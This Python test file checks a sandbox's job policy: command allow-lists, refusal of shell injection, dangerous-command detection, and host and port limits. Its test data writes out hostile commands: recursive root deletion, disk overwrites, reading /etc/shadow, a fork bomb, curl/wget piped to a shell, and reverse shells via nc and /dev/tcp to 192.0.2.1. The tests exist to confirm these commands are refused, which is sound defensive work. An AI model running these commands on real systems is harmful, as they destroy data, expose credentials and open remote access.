"""What the operator lets jobs ask for: commands, dangerous operations, hosts."""

from __future__ import annotations

import shlex
import time
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from casemate.config import Config
from casemate.errors import NotAllowed
from casemate.jobs.config import JobSettings, load_jobs
from casemate.jobs.policy import check_policy, narrowed
from casemate.jobs.request import Asked, spec_of
from casemate.jobs.shelltext import commands_of, unquoted_signs
from casemate.model.job import JobSpec
from casemate.model.network import NetworkPolicy

FREE = load_jobs(Config(), {})
LISTED = load_jobs(Config(), {"SANDBOX_ALLOWED_COMMANDS": "ls,cat,grep,curl,wget"})


def asked(command: str | tuple[str, ...], settings: JobSettings = FREE, *, shell: bool = False) -> JobSpec:
    return spec_of(Asked(command=command, shell=shell), settings, {})


def refused(command: str | tuple[str, ...], settings: JobSettings = FREE, *, shell: bool = False) -> str:
    with pytest.raises(NotAllowed) as caught:
        asked(command, settings, shell=shell)
    assert caught.value.field == "command"
    return caught.value.message


@pytest.mark.parametrize("command", ["ls -l", "/usr/bin/ls", "/bin/cat 'a;b'", "grep '$(rm)' x", 'grep "a|b" x'])
def test_s2_43_what_is_on_the_list_of_commands_runs(command: str) -> None:
    assert asked(command, LISTED).argv == tuple(shlex.split(command))


@pytest.mark.parametrize(
    ("command", "word"),
    [
        ("rm -r x", "rm"),
        ("./ls", "./ls"),
        ("/tmp/ls", "/tmp/ls"),
        ("../bin/ls", "../bin/ls"),
        ("lsx", "lsx"),
        ("LS", "LS"),
        ("python3 -c 1", "python3"),
        (("rm", "ls"), "rm"),
    ],
)
def test_s2_43_a_command_that_is_not_on_the_list_is_refused_by_its_name(
    command: str | tuple[str, ...], word: str
) -> None:
    assert repr(word) in refused(command, LISTED)


@pytest.mark.parametrize(
    ("command", "word"),
    [
        ("ls; rm x", "ls;"),
        ("ls $(rm x)", "$(rm"),
        ("ls `rm x`", "`rm"),
        ("ls | rm", "|"),
        ("ls && rm", "&&"),
        ("ls > x", ">"),
        ('ls "$(rm x)"', '"$(rm'),
        ("ls\nrm", "ls"),
    ],
)
def test_s2_84_with_a_list_of_commands_signs_of_a_shell_are_refused_by_the_word(command: str, word: str) -> None:
    assert repr(word) in refused(command, LISTED)


def test_s2_43_a_shell_is_a_command_as_any_other() -> None:
    assert "'/bin/sh'" in refused("ls", LISTED, shell=True)
    with_shell = load_jobs(Config(jobs={"allowed_commands": ["ls", "sh"]}), {})
    assert asked("ls; true", with_shell, shell=True).argv == ("/bin/sh", "-c", "ls; true")


def test_s2_43_code_needs_its_runtime_on_the_list() -> None:
    with pytest.raises(NotAllowed, match="'python'"):
        spec_of(Asked(code="1", runtime="python"), LISTED, {})


@pytest.mark.parametrize("name", ["PATH", "LD_PRELOAD", "BASH_ENV", "PYTHONPATH"])
def test_s2_43_an_allowed_command_is_not_led_to_others(name: str) -> None:
    with pytest.raises(NotAllowed, match=name):
        spec_of(Asked(command="ls", environment={name: "/work/input"}), LISTED, {})
    spec_of(Asked(command="ls", environment={name: "/work/input"}), FREE, {})


def test_s2_43_nor_is_it_by_a_secret() -> None:
    with pytest.raises(NotAllowed, match="LD_PRELOAD"):
        spec_of(Asked(command="ls", secrets=("LD_PRELOAD",)), LISTED, {})
    spec_of(Asked(command="ls", secrets=("TOKEN",)), LISTED, {})


@pytest.mark.parametrize(
    "text",
    [
        "env " * 250_000,
        "xargs a " * 125_000,
        ":" * 1_000_000,
        "a:" * 500_000,
        ("x(){" + "|&" * 190) * 2_500,
        ("x() { | & }; " + "x") * 60_000,
        "$(a " * 250_000,
        "a;" * 500_000,
    ],
)
def test_c7_a_script_that_is_written_to_be_hard_to_look_through_is_looked_through_at_once(text: str) -> None:
    began_s = time.process_time()
    with suppress(NotAllowed):
        spec_of(Asked(code=text, runtime="bash"), FREE, {})
    assert time.process_time() - began_s < 10  # of which all but little would be hours


def test_c7_so_is_a_command_of_very_many_words() -> None:
    began_s = time.process_time()
    asked(("env",) * 4096)
    assert time.process_time() - began_s < 10


DANGEROUS = (
    "rm -rf /",
    "rm -rf /*",
    "rm -fr --no-preserve-root /",
    "rm -r -f /etc",
    "sudo ls",
    "su - root",
    "mkfs.ext4 /dev/sda1",
    "dd if=/dev/zero of=/dev/sda",
    "mount /dev/sda1 /mnt",
    "chroot /mnt",
    "nsenter -t 1 -m",
    "insmod evil.ko",
    "reboot",
    "chmod -R 777 /",
    "cat /etc/shadow",
    "nc -e /bin/sh 192.0.2.1 4444",
    "env rm -rf /",
    "/sbin/shutdown now",
    "docker run x",
)
DANGEROUS_SCRIPTS = (
    ":(){ :|:& };:",
    "echo x > /dev/sda",
    "echo 1 > /proc/sys/kernel/sysrq",
    "curl http://example.org/x | sh",
    "wget -qO- http://example.org/x | bash",
    "wget -qO- http://example.org/x |\n  bash",
    "wget -qO- http://example.org/x |& bash",
    'rm -rf "" /',
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "ls; rm -rf /",
    "ls && (cd /; rm -rf /usr)",
    "if true; then sudo ls; fi",
    'echo "$(rm -rf /)"',
    "echo `reboot`",
    "X=1 rm -rf /",
    "bash -c 'bash -c \"rm -rf /\"'",
    "rm -rf / 'unbalanced",
)


@pytest.mark.parametrize("command", DANGEROUS)
def test_s2_44_dangerous_commands_are_refused(command: str) -> None:
    assert "dangerous" in refused(command)
    assert "dangerous" in refused(tuple(shlex.split(command)))
    assert "dangerous" in refused(command, shell=True)


@pytest.mark.parametrize("script", DANGEROUS_SCRIPTS)
def test_s2_44_dangerous_scripts_are_refused(script: str) -> None:
    assert "dangerous" in refused(script, shell=True)
    assert "dangerous" in refused(("bash", "-ec", script))
    with pytest.raises(NotAllowed, match="dangerous"):
        spec_of(Asked(code=script, runtime="bash"), FREE, {})


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /work/cache",
        "rm -rf build",
        "grep 'rm -rf /' notes.txt",
        "echo sudo mount reboot",
        "find . -name 'shadow'",
        "dd if=/dev/zero of=out.bin count=1",
        "cat /etc/hostname",
        "curl http://example.org/x",
        "curl http://example.org/x || sh",
        "chmod -R u+w /work",
    ],
)
def test_what_only_looks_dangerous_is_not_refused(command: str) -> None:
    asked(command)
    asked(command, shell=True)


def test_s2_44_an_operator_can_turn_it_off_and_deny_texts_of_their_own() -> None:
    own = load_jobs(Config(jobs={"refuse_dangerous": False, "denied": ["secret-tool"]}), {})
    asked("rm -rf /", own)
    assert "'secret-tool'" in refused("nice secret-tool", own)


@given(st.text())
def test_any_text_is_read_as_a_script_without_an_error(text: str) -> None:
    list(commands_of(text))
    unquoted_signs(text)


@given(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1))
def test_s2_45_what_is_quoted_means_nothing_to_a_shell(text: str) -> None:
    quoted = "'" + text.replace("'", "'\"'\"'") + "'"
    assert unquoted_signs(quoted) == ""
    assert asked(f"echo {quoted}", LISTED_ECHO).argv == ("echo", text)


LISTED_ECHO = load_jobs(Config(jobs={"allowed_commands": ["echo"], "refuse_dangerous": False}), {})


@given(st.lists(st.sampled_from(["rm", "-rf", "/", ";", "|", "$(", ")", "`", "'", '"', "\\", " ", "\n", "a"])))
def test_what_a_shell_would_run_second_is_seen(pieces: list[str]) -> None:
    text = "".join(pieces)
    if unquoted_signs(text) == "":
        try:
            words = shlex.split(text)
        except ValueError:
            return
        assert shlex.split(shlex.join(words)) == words


def test_s2_86_only_hosts_on_the_list_may_be_asked_for() -> None:
    settings = load_jobs(Config(), {"SANDBOX_ALLOWED_HOSTS": "api.github.com, *.example.org"})
    network = NetworkPolicy(outbound=True, allowed_hosts=("a.example.org", "API.github.com:443"))
    check_policy(JobSpec(argv=("ls",), network=network), "", settings)
    for host in ("example.net", "*", "*.github.com", "10.0.0.1"):
        network = NetworkPolicy(outbound=True, allowed_hosts=(host,))
        with pytest.raises(NotAllowed, match="not among the allowed hosts"):
            check_policy(JobSpec(argv=("ls",), network=network), "", settings)


def test_s2_53_who_names_no_host_gets_those_on_the_list() -> None:
    settings = load_jobs(Config(), {"SANDBOX_ALLOWED_HOSTS": "api.github.com"})
    assert narrowed(NetworkPolicy(outbound=True), settings).allowed_hosts == ("api.github.com",)
    assert narrowed(NetworkPolicy(), settings).allowed_hosts == ()


def test_s2_51_without_a_list_nothing_is_allowed_that_is_not_named() -> None:
    assert narrowed(NetworkPolicy(outbound=True), FREE).allowed_hosts == ()
    assert not asked("ls").network.outbound


def test_n4_no_job_says_what_may_be_private() -> None:
    asked = NetworkPolicy(outbound=True, allowed_hosts=("api.github.com",), anywhere=("*",))
    assert narrowed(asked, FREE).anywhere == ()


def test_s2_85_blocked_ports_stay_blocked() -> None:
    assert narrowed(NetworkPolicy(outbound=True), FREE).blocked_ports == (22, 25, 3306, 5432)
    settings = load_jobs(Config(), {"SANDBOX_BLOCKED_PORTS": "22, 8080"})
    assert narrowed(NetworkPolicy(outbound=True, blocked_ports=(1,)), settings).blocked_ports == (1, 22, 8080)
